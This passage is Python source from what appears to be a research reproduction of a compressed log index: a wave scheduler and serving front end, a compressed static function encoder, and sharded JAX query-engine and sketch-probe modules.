            s = ServeStats(**{k: getattr(self._stats, k)
                              for k in self._stats.__dataclass_fields__})
            s.replica_waves = dict(self._stats.replica_waves)
            return s

    # ------------------------------------------------------------ dispatcher
    def _dispatch_loop(self) -> None:
        with self._cv:
            while True:
                if self._stop and self._n_pending == 0:
                    self._dispatch_done = True
                    self._cv.notify_all()
                    return
                wave = None
                if self._inflight < self.max_live_waves:
                    wave = self._pop_wave(time.monotonic())
                if wave is not None:
                    self._inflight += 1
                    self._ready.append(wave)
                    self._cv.notify_all()
                    continue
                self._cv.wait(timeout=self._wait_timeout())

    def _wait_timeout(self) -> float | None:
        """Sleep until the earliest pending deadline (None = until a
        submit/completion/close notification)."""
        if self._stop:
            return 0.05
        if self._inflight >= self.max_live_waves or not self._n_pending:
            return None
        oldest = min(dq[0].t_submit for dq in self._groups.values() if dq)
        return max(oldest + self.flush_deadline_s - time.monotonic(), 1e-4)

    def _pop_wave(self, now: float):
        """Pick the flush-ready group: any group at/above the largest
        bucket flushes on size; otherwise the group with the oldest
        head past the deadline flushes (drain mode flushes everything).
        Returns (tickets, key, reason) or None."""
        max_b = self.bucket_sizes[-1]
        chosen, reason, oldest = None, None, None
        for key, dq in self._groups.items():
            if not dq:
                continue
            if len(dq) >= max_b:
                chosen, reason = key, "size"
                break
            head_t = dq[0].t_submit
            if self._stop:
                if chosen is None or head_t < oldest:
                    chosen, reason, oldest = key, "drain", head_t
            elif now - head_t >= self.flush_deadline_s:
                if chosen is None or head_t < oldest:
                    chosen, reason, oldest = key, "deadline", head_t
        if chosen is None:
            return None
        dq = self._groups[chosen]
        take = min(len(dq), max_b)
        tickets = [dq.popleft() for _ in range(take)]
        if not dq:
            del self._groups[chosen]
        self._n_pending -= take
        setattr(self._stats, f"{reason}_flushes",
                getattr(self._stats, f"{reason}_flushes") + 1)
        self._cv.notify_all()       # submit() backpressure waiters
        return tickets, chosen, reason

    # --------------------------------------------------------------- workers
    def _worker_loop(self) -> None:
        while True:
            with self._cv:
                while not self._ready and not self._dispatch_done:
                    self._cv.wait()
                if not self._ready and self._dispatch_done:
                    return
                wave = self._ready.popleft()
                seq = self._wave_seq
                self._wave_seq += 1
                idx = seq % len(self._engines)
                engine = self._engines[idx]
                lock = self._engine_locks[idx]
            try:
                self._run_wave(wave, seq, idx, engine, lock)
            finally:
                with self._cv:
                    self._inflight -= 1
                    self._cv.notify_all()

    def _run_wave(self, wave, seq: int, replica: int, engine, lock) -> None:
        tickets, (op, _tb), _reason = wave
        n = len(tickets)
        q_bucket = self._q_bucket(n)
        use_host = self.cost_model.prefer_host(n, q_bucket)
        try:
            with lock:
                if use_host:
                    results = [engine.host_query(t.fps, op=op)
                               for t in tickets]
                else:
                    fps_lists = [t.fps for t in tickets]
                    # pad by replicating a real query (saxml-style), not
                    # with empties: the engine drops empty queries from
                    # its live set and would re-bucket the wave to
                    # pow2(n) — a fresh jit shape per wave size instead
                    # of one per supported bucket
                    fps_lists += [fps_lists[-1]] * (q_bucket - n)
                    results = engine.query_fps_batch(fps_lists, op=op)[:n]
        except BaseException as e:
            for t in tickets:
                t._fail(e, seq)
            with self._cv:
                self._stats.failed += n
                self._bump_wave_stats(seq, replica, n, q_bucket, use_host)
            return
        via = "host" if use_host else "device"
        for t, r in zip(tickets, results):
            t._complete(r, seq, via)
        with self._cv:
            self._stats.completed += n
            self._bump_wave_stats(seq, replica, n, q_bucket, use_host)

    def _bump_wave_stats(self, seq, replica, n, q_bucket, use_host) -> None:
        st = self._stats
        st.waves += 1
        st.host_waves += use_host
        st.device_waves += not use_host
        if not use_host:
            st.padded_slots += q_bucket - n
        st.max_wave = max(st.max_wave, n)
        st.replica_waves[replica] = st.replica_waves.get(replica, 0) + 1

    def _q_bucket(self, n: int) -> int:
        """Smallest supported bucket covering ``n`` (the pop cap keeps
        ``n`` <= the largest bucket)."""
        i = bisect.bisect_left(self.bucket_sizes, n)
        return self.bucket_sizes[min(i, len(self.bucket_sizes) - 1)]


class StoreServer:
    """Serving front end over a store view: scheduler waves for the
    candidate probe, the view's exact post-filter for matches.

    ``view_fn`` returns the current store view — the finished store
    itself, or :meth:`DynaWarpStore.snapshot` while a writer ingests.
    A view must expose ``engine``, ``n_batches``, and ``_post_filter``
    (both :class:`~repro.logstore.store.DynaWarpStore` and
    :class:`~repro.logstore.store.StoreSnapshot` do).

    :meth:`refresh` advances to a newer view, swapping the scheduler's
    engine replicas FIRST and the view second — so a request that
    captured view ``V`` is always served by an engine covering at least
    ``V``'s published prefix, and truncating candidates to
    ``V.n_batches`` plus the exact post-filter makes every answer
    consistent with ``V``'s prefix.  A failing ``view_fn`` (e.g. the
    writer just crashed) keeps the last good view serving.
    """

    def __init__(self, view_fn, *, n_replicas: int = 1, **scheduler_kw):
        self._view_fn = view_fn
        self.n_replicas = max(int(n_replicas), 1)
        self._refresh_lock = threading.Lock()
        view = view_fn()
        if view.engine is None:
            raise ValueError("serving requires a wave engine "
                             "(device_query=True)")
        self.scheduler = WaveScheduler(
            self._replicas(view.engine), **scheduler_kw)
        self._view = view

    def _replicas(self, engine) -> list:
        return [engine] + [engine.clone()
                           for _ in range(self.n_replicas - 1)]

    # ------------------------------------------------------------- lifecycle
    def refresh(self) -> bool:
        """Advance to the current store view; returns True if the
        serving view moved.  Safe to call from a background cadence
        thread while clients query."""
        try:
            view = self._view_fn()
        except Exception:
            return False            # writer gone mid-snapshot: keep serving
        if view.engine is None:
            return False
        with self._refresh_lock:
            old = self._view
            if (view.engine is old.engine
                    and view.n_batches == old.n_batches):
                return False
            self.scheduler.set_engines(self._replicas(view.engine))
            self._view = view       # engines first, view second
        return True

    def close(self, timeout: float = 60.0) -> None:
        self.scheduler.close(timeout)

    def __enter__(self) -> "StoreServer":
        return self

    def __exit__(self, *exc) -> bool:
        self.close()
        return False

    # --------------------------------------------------------------- queries
    def _served_candidates(self, view, tickets,
                           timeout: float | None) -> list[np.ndarray]:
        out = []
        for t in tickets:
            cand = np.asarray(t.wait(timeout), np.int64)
            out.append(cand[cand < view.n_batches])
        return out

    def query_term(self, term: str, *, timeout: float | None = None):
        view = self._view
        ticket = self.scheduler.submit(term_query_tokens(term))
        cand, = self._served_candidates(view, [ticket], timeout)
        return view._post_filter(cand, term, "term")

    def query_contains(self, term: str, *, timeout: float | None = None):
        view = self._view
        tokens = contains_query_tokens(term)
        if not tokens:               # no indexable n-gram: scan the prefix
            cand = np.arange(view.n_batches, dtype=np.int64)
            return view._post_filter(cand, term, "contains")
        ticket = self.scheduler.submit(tokens)
        cand, = self._served_candidates(view, [ticket], timeout)
        return view._post_filter(cand, term, "contains")

    def query_term_batch(self, terms: list[str], *,
                         timeout: float | None = None) -> list:
        view = self._view
        tickets = [self.scheduler.submit(term_query_tokens(t))
                   for t in terms]
        cands = self._served_candidates(view, tickets, timeout)
        return [view._post_filter(c, t, "term")
                for c, t in zip(cands, terms)]

    @property
    def view(self):
        return self._view
