"""Compressed static function: minimal-hash -> posting-list rank (§3.3).

Posting lists are ranked by reference count (rank 0 = most referenced).
The rank of entry ``i`` is encoded with ``floor(log2(max(rank,1))) + 1``
bits — *not* uniquely decodable on its own; decodability comes from storing
every entry's bit length in a packed 5-bit array plus a sampled absolute
prefix-sum directory, exactly as the paper describes.

Query path: one sampled-offset gather + a <=SAMPLE-length 5-bit prefix sum
+ a two-word bit-field gather.  Fully vectorized in numpy and jnp.
"""
from __future__ import annotations

from dataclasses import dataclass

import numpy as np

import jax.numpy as jnp

from .bitio import BitWriter, np_peek_bits

SAMPLE = 32          # prefix-sum sampling interval (configurable, §3.3)
LEN_BITS = 5         # rank < 2^30 -> code length <= 31 -> 5-bit lengths


def code_length(rank: np.ndarray) -> np.ndarray:
    """floor(log2(max(rank,1))) + 1 bits per value."""
    r = np.maximum(np.asarray(rank, dtype=np.int64), 1)
    return np.floor(np.log2(r)).astype(np.int64) + 1


@dataclass
class CompressedStaticFunction:
    bitseq: np.ndarray       # (W,) uint32 concatenated variable-length codes
    lengths: np.ndarray      # (ceil(N*5/32),) uint32 packed 5-bit lengths
    samples: np.ndarray      # (ceil(N/SAMPLE),) int64 absolute bit offsets
    n: int

    def size_bits(self) -> int:
        return 32 * (self.bitseq.size + self.lengths.size) + 64 * self.samples.size

    # ---- host/vectorized decode ------------------------------------------------
    def get_np(self, idx: np.ndarray) -> np.ndarray:
        idx = np.asarray(idx, dtype=np.int64)
        block = idx // SAMPLE
        base = block * SAMPLE
        off = self.samples[block].copy()
        lens_all = np.empty((idx.size, SAMPLE), dtype=np.int64)
        for j in range(SAMPLE):
            lens_all[:, j] = self._len_np(np.minimum(base + j, self.n - 1))
        rel = idx - base
        for j in range(SAMPLE):
            off += np.where(j < rel, lens_all[:, j], 0)
        nbits = lens_all[np.arange(idx.size), rel]
        return np_peek_bits(self.bitseq, off, nbits).astype(np.int64)

    def get_scalar(self, idx: int) -> int:
        """Single-entry decode with python ints (query fast path)."""
        from .bitio import peek_bits
        block = idx // SAMPLE
        base = block * SAMPLE
        off = int(self.samples[block])
        for j in range(base, idx):
            off += peek_bits(self.lengths, min(j, self.n - 1) * LEN_BITS,
                             LEN_BITS)
        nbits = peek_bits(self.lengths, idx * LEN_BITS, LEN_BITS)
        return peek_bits(self.bitseq, off, nbits)

    def _len_np(self, idx: np.ndarray) -> np.ndarray:
        bit = idx * LEN_BITS
        return np_peek_bits(self.lengths, bit,
                            np.full(idx.shape, LEN_BITS, np.int64)).astype(np.int64)

    # ---- device decode -----------------------------------------------------------
    def device_arrays(self) -> dict:
        # n1 rides along so stacked/sharded probes can pass the clip bound
        # as data (one traced decode body shared by every segment layout)
        return dict(bitseq=jnp.asarray(self.bitseq),
                    lengths=jnp.asarray(self.lengths),
                    samples=jnp.asarray(self.samples.astype(np.int32)),
                    n1=jnp.asarray(max(self.n - 1, 0), jnp.int32))

    def get_jnp(self, idx, arrs=None):
        if arrs is None:
            arrs = self.device_arrays()
        return csf_get_jnp(idx, arrs)


def csf_get_jnp(idx, arrs):
    """Decode ``idx`` against a :meth:`CompressedStaticFunction.device_arrays`
    dict.  All bounds come from ``arrs`` (``n1`` = n - 1), so the same
    traced body serves a single sketch and a stacked per-shard row."""
    bitseq, lengths, samples = arrs["bitseq"], arrs["lengths"], arrs["samples"]
    n1 = arrs["n1"]
    idx = idx.astype(jnp.int32)
    block = idx // SAMPLE
    base = block * SAMPLE
    off = samples[block]
    rel = idx - base
    nbits = jnp.zeros(idx.shape, dtype=jnp.int32)
    for j in range(SAMPLE):
        lj = _jnp_peek(lengths,
                       jnp.minimum(base + j, n1) * LEN_BITS,
                       LEN_BITS).astype(jnp.int32)
        off = off + jnp.where(j < rel, lj, 0)
        nbits = jnp.where(j == rel, lj, nbits)
    return _jnp_peek_var(bitseq, off, nbits).astype(jnp.int32)


def _jnp_peek(words, bitpos, nbits: int):
    word = bitpos >> 5
    off = (bitpos & 31).astype(jnp.uint32)
    w0 = words[word]
    w1 = words[jnp.minimum(word + 1, words.shape[0] - 1)]
    lo = (w0 >> off)
    hi = jnp.where(off > 0, w1 << (jnp.uint32(32) - off), jnp.uint32(0))
    return (lo | hi) & jnp.uint32((1 << nbits) - 1)


def _jnp_peek_var(words, bitpos, nbits):
    word = bitpos >> 5
    off = (bitpos & 31).astype(jnp.uint32)
    w0 = words[word]
    w1 = words[jnp.minimum(word + 1, words.shape[0] - 1)]
    lo = (w0 >> off)
    hi = jnp.where(off > 0, w1 << (jnp.uint32(32) - off), jnp.uint32(0))
    v = lo | hi
    mask = jnp.where(nbits >= 32, jnp.uint32(0xFFFFFFFF),
                     (jnp.uint32(1) << nbits.astype(jnp.uint32)) - jnp.uint32(1))
    return v & mask


def build_csf(values: np.ndarray) -> CompressedStaticFunction:
    """Encode ``values[i]`` (the rank for minimal hash i)."""
    values = np.asarray(values, dtype=np.int64)
    n = values.size
    lens = code_length(values)
    # code bit-sequence
    w = BitWriter()
    samples = []
    for i in range(n):
        if i % SAMPLE == 0:
            samples.append(w.bitpos)
        w.write(int(values[i]), int(lens[i]))
    bitseq = w.array()
    # packed 5-bit lengths
    lw = BitWriter()
    for i in range(n):
        lw.write(int(lens[i]), LEN_BITS)
    return CompressedStaticFunction(
        bitseq=bitseq, lengths=lw.array(),
        samples=np.asarray(samples if samples else [0], dtype=np.int64), n=n)
