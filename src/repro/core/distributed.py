"""Sharded device retrieval — the paper's horizontal scaling (§3, §6)
mapped onto the production mesh, THROUGH the batched query engine.

Grail assigns immutable segments to query workers; a query fans out to
every segment's sketch and unions/intersects the per-segment candidate
sets.  Here that becomes segment parallelism over the mesh:

  * whole segments are assigned to mesh shards (``('pod', 'data')``
    segment parallelism) — each segment's padded flat buffers upload to
    its shard's device exactly once (:meth:`ImmutableSketch.
    device_row_cache`, the sharded twin of ``device_cache``) and
    survive engine rebuilds, so compaction re-uploads only merged
    segments,
  * segments group into *level-layout buckets* (identical MPHF level
    metadata + padded array geometry).  A bucket's rows stack into
    (S, ...) device arrays sharded over the segment axis — assembled
    zero-copy from the per-device rows via
    ``jax.make_array_from_single_device_arrays`` — and one
    ``shard_map`` evaluates the whole (Q, T) wave: every shard probes
    its local segments with the SAME ``sketch_probe`` kernel path the
    single-device engine uses (:func:`core.immutable_sketch.
    match_bitmap_from`) and OR-accumulates its local token planes,
  * the only cross-shard traffic is the final all-gather of per-shard
    (Q, T, W) partial bitmaps, OR-folded before the engine's shared
    reduce (``bitset_ops``) + device candidate extraction
    (``bitmap_extract``) stages.

Heterogeneous fleets shard too: segments whose level layouts differ
land in separate buckets (one dispatch per bucket), so no segment ever
falls back to a host unroll.  Semantics are bit-identical to
:class:`~repro.core.query_engine.QueryEngine` — same probe kernels,
same fan-out OR, same reduce/extract, one code path.
"""
from __future__ import annotations

import math

import numpy as np

import jax
import jax.numpy as jnp
from jax.sharding import NamedSharding, PartitionSpec as P

from ..jax_compat import shard_map
from .immutable_sketch import match_bitmap_from
from .query_engine import QueryEngine

# names stacked into the per-shard buffers, with their pad fill
_ROW_FILL = {
    "words": 0, "block_rank": 0,
    "fallback_fps": 0xFFFFFFFF, "fallback_idx": 0,
    "signatures": 0,
    "csf_bitseq": 0, "csf_lengths": 0, "csf_samples": 0,
}
_ROW_SCALARS = ("fb_count", "n_tokens1", "csf_n1", "n_lists1", "active")


def _p2(n: int) -> int:
    """Next power of two >= max(n, 1) — per-array pad geometry that is a
    property of the segment alone, so cached rows survive bucket-mate
    churn (a merged-away neighbour never invalidates this segment)."""
    return 1 << (max(int(n), 1) - 1).bit_length()


def _pad1(a: np.ndarray, size: int, fill=0) -> np.ndarray:
    out = np.full(size, fill, a.dtype)
    out[:a.size] = a
    return out


def default_shard_mesh(shard_axes=("data",)):
    """A mesh over every visible device, named by ``shard_axes`` (extra
    leading axes get size 1 — ``('pod', 'data')`` works on one host)."""
    n = len(jax.devices())
    shape = (1,) * (len(shard_axes) - 1) + (n,)
    return jax.make_mesh(shape, tuple(shard_axes))


class ShardedQueryEngine(QueryEngine):
    """Segment-parallel :class:`QueryEngine`: same wave semantics, with
    the plane-backed probe fan-out distributed over a device mesh."""

    def __init__(self, segments, *, mesh=None, shard_axes=("data",),
                 n_postings: int | None = None, lru_lists: int = 4096,
                 bitset_kernel: bool | None = None,
                 extract_on_device: bool | None = None):
        super().__init__(segments, n_postings=n_postings,
                         lru_lists=lru_lists, bitset_kernel=bitset_kernel,
                         extract_on_device=extract_on_device)
        self.shard_axes = tuple(shard_axes)
        if mesh is None:
            mesh = default_shard_mesh(self.shard_axes)
        self.mesh = mesh
        self.n_shards = math.prod(mesh.shape[a] for a in self.shard_axes)
        self._shard_devices = self._devices_by_shard()
        self._assign_shards()
        self._buckets = self._build_buckets()
        self._bucket_arrs: dict[tuple, tuple] = {}
        self._wave_fn_cached = None

    # ------------------------------------------------------------ placement
    def _devices_by_shard(self) -> list[list]:
        """Mesh devices grouped by linear shard index along
        ``shard_axes`` (devices along non-shard axes are replicas)."""
        names = list(self.mesh.axis_names)
        shard_dims = [names.index(a) for a in self.shard_axes]
        sizes = [self.mesh.shape[a] for a in self.shard_axes]
        groups: list[list] = [[] for _ in range(self.n_shards)]
        devs = np.asarray(self.mesh.devices)
        for pos in np.ndindex(devs.shape):
            coord = tuple(pos[d] for d in shard_dims)
            groups[int(np.ravel_multi_index(coord, sizes))] \
                .append(devs[pos])
        return groups

    def _assign_shards(self) -> None:
        """Stable segment -> shard slots: a segment keeps the slot it was
        first given (its uploaded rows stay valid across engine rebuilds;
        durable segments keep it across store reopens too, keyed by their
        durable id); new segments fill the least-loaded shards."""
        load = [0] * self.n_shards
        fresh = []
        for _, seg in self._plane_segs:
            slot = seg.get_shard_slot()
            if slot is not None and slot < self.n_shards:
                load[slot] += 1
            else:
                fresh.append(seg)
        for seg in fresh:
            slot = int(np.argmin(load))
            seg.set_shard_slot(slot)
            load[slot] += 1

    # ------------------------------------------------------------- replicas
    def clone(self) -> "ShardedQueryEngine":
        """Serving replica on the same mesh: segments keep their shard
        slots (stable, stored on the sketch) and their uploaded
        per-shard rows, so a replica costs only fresh jit caches."""
        return ShardedQueryEngine(self.segments, mesh=self.mesh,
                                  shard_axes=self.shard_axes,
                                  n_postings=self.n_postings,
                                  lru_lists=self._lru_cap,
                                  bitset_kernel=self._use_bitset_kernel,
                                  extract_on_device=self._extract_on_device)

    # -------------------------------------------------------------- buckets
    def _seg_pad_key(self, seg) -> tuple:
        lb, lo = seg._level_layout()
        return (lb, lo, seg.sig_bits,
                _p2(seg.signatures.size),
                _p2(seg.mphf.fallback_fps.size),
                _p2(seg.csf.bitseq.size), _p2(seg.csf.lengths.size),
                _p2(seg.csf.samples.size),
                _p2(seg.planes.shape[0]), self.words)

    def _build_buckets(self) -> list[tuple[tuple, list[int]]]:
        buckets: dict[tuple, list[int]] = {}
        for si, seg in self._plane_segs:
            buckets.setdefault(self._seg_pad_key(seg), []).append(si)
        return sorted(buckets.items(), key=lambda kv: kv[1][0])

    def _seg_row_host(self, seg, key) -> dict:
        """The segment's padded flat buffers (host), per its pad key."""
        (_, _, _, sig_p2, fb_p2, bs_p2, ln_p2, sm_p2, pl_p2, w) = key
        m, c = seg.mphf, seg.csf
        planes = np.zeros((pl_p2, w), np.uint32)
        pw = min(seg.planes.shape[1], w)
        planes[:seg.planes.shape[0], :pw] = seg.planes[:, :pw]
        return {
            "words": m.words, "block_rank": m.block_rank,
            "fallback_fps": _pad1(m.fallback_fps, fb_p2, 0xFFFFFFFF),
            "fallback_idx": _pad1(m.fallback_idx.astype(np.int32), fb_p2),
            "fb_count": np.int32(m.fallback_fps.size),
            "signatures": _pad1(seg.signatures, sig_p2),
            "n_tokens1": np.int32(max(seg.n_tokens - 1, 0)),
            "csf_bitseq": _pad1(c.bitseq, bs_p2),
            "csf_lengths": _pad1(c.lengths, ln_p2),
            "csf_samples": _pad1(c.samples.astype(np.int32), sm_p2),
            "csf_n1": np.int32(max(c.n - 1, 0)),
            "planes": planes,
            "n_lists1": np.int32(max(seg.n_lists - 1, 0)),
            "active": np.int32(1),
        }

    def _zero_row(self, key) -> dict:
        """An all-zero padded row: probes to absent everywhere, so it is
        the identity of the per-shard OR (used to even out shard loads)."""
        (_, lo, _, sig_p2, fb_p2, bs_p2, ln_p2, sm_p2, pl_p2, w) = key
        n_words = _row_n_words(lo)
        return {
            "words": np.zeros(n_words, np.uint32),
            "block_rank": np.zeros((n_words + 7) // 8, np.uint32),
            "fallback_fps": np.full(fb_p2, 0xFFFFFFFF, np.uint32),
            "fallback_idx": np.zeros(fb_p2, np.int32),
            "fb_count": np.int32(0),
            "signatures": np.zeros(sig_p2, np.uint32),
            "n_tokens1": np.int32(0),
            "csf_bitseq": np.zeros(bs_p2, np.uint32),
            "csf_lengths": np.zeros(ln_p2, np.uint32),
            "csf_samples": np.zeros(sm_p2, np.int32),
            "csf_n1": np.int32(0),
            "planes": np.zeros((pl_p2, w), np.uint32),
            "n_lists1": np.int32(0),
            "active": np.int32(0),
        }

    # ------------------------------------------------------- stacked arrays
    def _bucket_global(self, key, seg_ids) -> tuple[dict, int]:
        """Assemble (and memoize) the bucket's stacked global arrays:
        (n_shards * s_local, ...) device arrays sharded over the segment
        axis.  Stacking copies the cached rows device-locally (no host
        transfer); the rows stay cached so engine rebuilds after
        compaction re-upload nothing for surviving segments — the index
        (~1% of data, §6) is held twice on device to buy that."""
        hit = self._bucket_arrs.get(key)
        if hit is not None:
            return hit
        by_shard: list[list] = [[] for _ in range(self.n_shards)]
        for si in seg_ids:
            seg = self.segments[si]
            by_shard[seg.get_shard_slot()].append(seg)
        s_local = max(1, max(len(g) for g in by_shard))

        # one row dict per (shard, local slot, replica device)
        zero_host = None
        names = list(_ROW_FILL) + ["planes"] + list(_ROW_SCALARS)
        blocks: dict[str, list] = {n: [] for n in names}
        for shard, group in enumerate(by_shard):
            for dev in self._shard_devices[shard]:
                rows = []
                for seg in group:
                    arrs, uploaded = seg.device_row_cache(
                        key, dev,
                        lambda s=seg: self._seg_row_host(s, key))
                    if uploaded:
                        self.upload_count += 1
                    rows.append(arrs)
                if len(rows) < s_local:
                    if zero_host is None:
                        zero_host = self._zero_row(key)
                    zrow = {n: jax.device_put(v, dev)
                            for n, v in zero_host.items()}
                    rows.extend([zrow] * (s_local - len(rows)))
                for n in names:
                    blocks[n].append(jnp.stack([r[n] for r in rows]))

        garrs = {}
        for n in names:
            blk = blocks[n][0]
            gshape = (self.n_shards * s_local,) + blk.shape[1:]
            spec = P(self.shard_axes, *([None] * (blk.ndim - 1)))
            garrs[n] = jax.make_array_from_single_device_arrays(
                gshape, NamedSharding(self.mesh, spec), blocks[n])
        self._bucket_arrs[key] = (garrs, s_local)
        return garrs, s_local

    # ------------------------------------------------------------- dispatch
    def _wave_fn(self, bucket_arrs: list[tuple]):
        """ONE jitted shard_map per wave, covering every bucket: each
        shard runs the SAME per-segment ``match_bitmap_from`` probe the
        single-device engine jits against its local segments of ALL
        level-layout buckets, OR-folds the token planes locally, and the
        per-shard partials merge in a single all-gather + OR — one
        dispatch and one collective per wave, independent of the segment
        fleet size."""
        fn = self._wave_fn_cached
        if fn is None:
            metas = [(key[0], key[1], key[2], s_local)
                     for (key, _), (_, s_local)
                     in zip(self._buckets, bucket_arrs)]
            out_w = self.words
            n_shards = self.n_shards
            axis = (self.shard_axes if len(self.shard_axes) > 1
                    else self.shard_axes[0])
            names = list(_ROW_FILL) + ["planes"] + list(_ROW_SCALARS)
            row_specs = {n: P(self.shard_axes) for n in _ROW_SCALARS}
            row_specs.update({n: P(self.shard_axes, None)
                              for n in _ROW_FILL})
            row_specs["planes"] = P(self.shard_axes, None, None)

            def body(fps2d, garrs_list):
                self.compile_count += 1          # runs once per trace
                q, t = fps2d.shape
                flat = fps2d.reshape(-1)
                acc = jnp.zeros((q * t, out_w), jnp.uint32)
                for (lb, lo, sig_bits, s_local), arrs \
                        in zip(metas, garrs_list):

                    def probe(row, lb=lb, lo=lo, sig_bits=sig_bits):
                        return match_bitmap_from(
                            flat, row, level_bits=lb,
                            level_word_offset=lo, sig_bits=sig_bits)

                    for i in range(s_local):
                        row = {n: arrs[n][i] for n in names}
                        # zero-padded slots (shard-load evening) skip
                        # the probe at runtime — a shard only pays for
                        # the segments it actually owns
                        acc = acc | jax.lax.cond(
                            row["active"] > 0, probe,
                            lambda _row: jnp.zeros((q * t, out_w),
                                                   jnp.uint32),
                            row)
                # the one cross-shard exchange of the wave: all-gather
                # the partial bitmaps, OR-fold locally (far cheaper than
                # gathering shard-by-shard outside the shard_map)
                if n_shards > 1:
                    parts = jax.lax.all_gather(acc, axis)
                    parts = parts.reshape(n_shards, q * t, out_w)
                    for k in range(n_shards):
                        acc = parts[k] if k == 0 else acc | parts[k]
                return acc.reshape(q, t, out_w)

            smapped = shard_map(
                body, self.mesh,
                in_specs=(P(None, None),
                          tuple(row_specs for _ in metas)),
                out_specs=P(None, None, None))
            fn = self._wave_fn_cached = jax.jit(smapped)
        return fn

    def _extract(self, bitmaps, counts):
        """The wave's combined bitmaps come out replicated across the
        mesh; compact them on one device (its replica is already local)
        instead of running the extraction redundantly on every shard."""
        if self.n_shards > 1 and getattr(bitmaps, "sharding", None) is not None:
            bitmaps = jax.device_put(bitmaps, self._shard_devices[0][0])
        return super()._extract(bitmaps, counts)

    def _device_token_planes(self, fps_dev):
        """Sharded override of the engine's plane fan-out: one fused
        dispatch for the whole bucketed fleet instead of one per
        segment."""
        if not self._buckets:
            return None
        bucket_arrs = [self._bucket_global(key, seg_ids)
                       for key, seg_ids in self._buckets]
        fn = self._wave_fn(bucket_arrs)
        return fn(fps_dev, tuple(g for g, _ in bucket_arrs))


def _row_n_words(level_word_offset: tuple) -> int:
    """Word count of a level layout's concatenated bit-vectors (matches
    ``build_mphf``'s rank-block padding)."""
    from .mphf import RANK_BLOCK_WORDS
    n = int(level_word_offset[-1]) if level_word_offset else 0
    if n == 0:
        return RANK_BLOCK_WORDS
    return n + ((-n) % RANK_BLOCK_WORDS)
