"""Distributed sketch probe — the paper's horizontal scaling (§3, §6)
mapped onto the production mesh.

Grail assigns immutable segments to query workers; a query fans out to
every segment's sketch and unions/intersects the per-segment candidate
sets.  Here that becomes data parallelism over the mesh:

  * the S segment sketches are stacked into dense device arrays
    (words / block_rank padded to a common size) and sharded over
    ('pod','data') — segment parallelism,
  * bitmap words of the posting planes shard over 'model',
  * one batched query evaluates Q tokens x S segments in a single
    shard_map: each shard probes its local segments with the SAME kernel
    the single-segment path uses, then the AND/OR combine runs on the
    local (Q, S_local) hit matrices — no cross-shard traffic until the
    final candidate gather (an all-gather of Q x S_local bitmaps).

This module is pure JAX (works on the 1-device smoke mesh); the Pallas
kernels slot in transparently through kernels/sketch_probe.
"""
from __future__ import annotations

from dataclasses import dataclass

import numpy as np

import jax
import jax.numpy as jnp
from jax.sharding import NamedSharding, PartitionSpec as P

from .hashing import seeded_hash32
from .mphf import MPHF, RANK_BLOCK_WORDS, _level_seed


@dataclass
class StackedSketches:
    """S segment MPHFs padded into dense (S, ...) arrays."""
    words: jnp.ndarray            # (S, W) uint32
    block_rank: jnp.ndarray       # (S, RB) uint32
    level_bits: np.ndarray        # (S, L) int32 (host; static per probe)
    level_word_offset: np.ndarray  # (S, L+1) int32
    signatures: jnp.ndarray | None  # (S, K) uint8 per-key signature bits
    n_segments: int

    @classmethod
    def stack(cls, mphfs: list[MPHF], signatures=None) -> "StackedSketches":
        s = len(mphfs)
        w = max(m.words.size for m in mphfs)
        rb = max(m.block_rank.size for m in mphfs)
        lmax = max(m.n_levels for m in mphfs)
        words = np.zeros((s, w), np.uint32)
        rank = np.zeros((s, rb), np.uint32)
        lbits = np.zeros((s, lmax), np.int32)
        loff = np.zeros((s, lmax + 1), np.int32)
        for i, m in enumerate(mphfs):
            words[i, :m.words.size] = m.words
            rank[i, :m.block_rank.size] = m.block_rank
            lbits[i, :m.n_levels] = m.level_bits
            loff[i, :m.n_levels + 1] = m.level_word_offset
        return cls(words=jnp.asarray(words), block_rank=jnp.asarray(rank),
                   level_bits=lbits, level_word_offset=loff,
                   signatures=signatures, n_segments=s)


def probe_one_segment(words, block_rank, fps, level_bits, level_word_offset):
    """Vectorized MPHF probe of ONE segment (jnp; mirrors MPHF.lookup_jnp
    but with static per-segment level metadata)."""
    idx = jnp.zeros(fps.shape, jnp.int32)
    found = jnp.zeros(fps.shape, bool)
    nw = words.shape[0]
    for lvl, m in enumerate(level_bits):
        m = int(m)
        if m == 0:
            continue
        pos = seeded_hash32(fps, _level_seed(lvl)) % jnp.uint32(m)
        gbit = pos.astype(jnp.int32) + (int(level_word_offset[lvl]) << 5)
        word = gbit >> 5
        wv = words[word]
        hit = ((wv >> (gbit & 31).astype(jnp.uint32)) & 1).astype(bool)
        hit = hit & ~found
        block = word >> 3
        r = block_rank[block].astype(jnp.int32)
        base = block << 3
        for j in range(RANK_BLOCK_WORDS):
            wj = jnp.minimum(base + j, nw - 1)
            wjv = words[wj]
            pc = jax.lax.population_count(wjv).astype(jnp.int32)
            pmask = (jnp.uint32(1) << (gbit & 31).astype(jnp.uint32)) \
                - jnp.uint32(1)
            pcp = jax.lax.population_count(wjv & pmask).astype(jnp.int32)
            r = r + jnp.where(base + j < word, pc, 0) \
                + jnp.where(base + j == word, pcp, 0)
        idx = jnp.where(hit, r, idx)
        found = found | hit
    return idx, ~found


def distributed_probe(stacked: StackedSketches, fps, mesh=None,
                      segment_axes=("data",)):
    """Probe Q fingerprints against S segments.

    Returns (idx (S, Q) int32, absent (S, Q) bool).  With a mesh, the
    segment dim shards over ``segment_axes`` and each shard probes only
    its local segments (shard_map); without a mesh it runs as a plain
    loop (smoke path).  Level metadata is static per segment, so the
    probe unrolls per segment — segments per shard stay small (S/shards).
    """
    fps = jnp.asarray(fps, jnp.uint32)
    s = stacked.n_segments

    def probe_block(words_blk, rank_blk, seg_ids):
        outs_i, outs_a = [], []
        for i, seg in enumerate(seg_ids):
            idx, absent = probe_one_segment(
                words_blk[i], rank_blk[i], fps,
                stacked.level_bits[seg], stacked.level_word_offset[seg])
            outs_i.append(idx)
            outs_a.append(absent)
        return jnp.stack(outs_i), jnp.stack(outs_a)

    if mesh is None:
        return probe_block(stacked.words, stacked.block_rank, range(s))

    n_shards = 1
    for a in segment_axes:
        n_shards *= mesh.shape[a]
    assert s % n_shards == 0, (s, n_shards)

    # homogeneous-metadata fast path: when every segment shares the level
    # layout (common: same gamma/size class), the probe vmaps cleanly.
    homogeneous = bool(
        (stacked.level_bits == stacked.level_bits[0]).all()
        and (stacked.level_word_offset == stacked.level_word_offset[0]).all())
    if homogeneous:
        def one(words_row, rank_row):
            return probe_one_segment(words_row, rank_row, fps,
                                     stacked.level_bits[0],
                                     stacked.level_word_offset[0])
